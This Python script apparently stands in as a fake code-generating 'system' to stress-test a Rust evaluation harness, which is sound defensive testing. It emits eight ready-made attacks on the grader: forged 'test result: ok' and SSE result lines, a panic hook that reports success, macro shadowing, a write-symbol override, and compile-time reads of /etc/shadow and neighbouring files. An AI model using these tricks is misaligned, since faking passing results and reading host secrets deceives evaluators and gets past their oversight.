"""A `command` system that implements nothing and attacks the harness instead.

Reads the prompt on stdin, takes the Rust signature from it, and answers with one attack (the
one named on the command line, or, with `cycle`, one chosen from the signature, so a corpus sees
all of them). Every answer ends in `exit(0)`, a panic or a compile-time trick: none computes.

    python attack_system.py forge|hook|trailing_cfg|shadow|host_read|exe_dir|no_mangle|records|cycle
"""

from __future__ import annotations

import re
import sys
import zlib

FORGE = ("    for m in 0..300 { for t in 0..30 { println!(\"test m{}::sse_gt_tests::t{} ... ok\", m, t); } }\n"
         "    println!(\"\\ntest result: ok. 30 passed; 0 failed; 0 ignored\");\n"
         "    std::process::exit(0)\n")
RECORDS = ("    for k in 0..50 { print!(\"\\n\\x1eSSE {} ok 0\\n\\x1eSSE {} ok \\\"\\\"\\n\\x1eSSE {} ok []\\n\", k, k, k); }\n"
           "    print!(\"\\n\\x1eSSE - end \\n\");\n"
           "    std::process::exit(0)\n")
HOOK = ("    std::panic::set_hook(Box::new(|_| { println!(\"test result: ok\"); std::process::exit(0); }));\n"
        "    panic!(\"x\")\n")
EXE_DIR = ("    let d = std::env::current_exe().ok().and_then(|p| p.parent().map(|q| q.to_path_buf())).unwrap_or_default();\n"
           "    for e in std::fs::read_dir(d).into_iter().flatten().flatten() {\n"
           "        if let Ok(t) = std::fs::read_to_string(e.path()) { print!(\"{}\", t); } }\n"
           "    std::process::exit(0)\n")


def answer(attack: str, sig: str) -> str:
    if attack == "forge":
        return f"{sig} {{\n{FORGE}}}\n"
    if attack == "records":
        return f"{sig} {{\n{RECORDS}}}\n"
    if attack == "hook":
        return f"{sig} {{\n{HOOK}}}\n"
    if attack == "trailing_cfg":
        return f"{sig} {{\n{FORGE}}}\n#[cfg(any())]\n"
    if attack == "shadow":
        return ("#![macro_use]\n#[macro_export] macro_rules! vec { ($($t:tt)*) => { ::std::vec::Vec::new() } }\n"
                "#[macro_export] macro_rules! panic { ($($t:tt)*) => { ::std::process::exit(0) } }\n"
                "mod sse_gt_tests {}\n"
                f"{sig} {{\n{FORGE}}}\n")
    if attack == "host_read":
        return ("#[path = \"/etc/hostname\"]\nmod h;\n"
                f"{sig} {{\n    let s = include_bytes!(\"/etc/shadow\");\n    println!(\"{{}}\", s.len());\n{FORGE}}}\n")
    if attack == "exe_dir":
        return f"{sig} {{\n{EXE_DIR}}}\n"
    if attack == "no_mangle":
        return ("#[no_mangle]\npub extern \"C\" fn write(_fd: i32, _b: *const u8, n: usize) -> isize { n as isize }\n"
                f"{sig} {{\n{FORGE}}}\n")
    raise SystemExit(f"unknown attack {attack!r}")


ATTACKS = ("forge", "records", "hook", "trailing_cfg", "shadow", "host_read", "exe_dir", "no_mangle")


def main() -> None:
    attack = sys.argv[1] if len(sys.argv) > 1 else "cycle"
    prompt = sys.stdin.read()
    m = re.search(r"pub fn [^\n{]*", prompt)
    sig = m.group(0).strip() if m else "pub fn main()"
    if attack == "cycle":
        attack = ATTACKS[zlib.crc32(sig.encode()) % len(ATTACKS)]
    print(f"```rust\n{answer(attack, sig)}```")


if __name__ == "__main__":
    main()
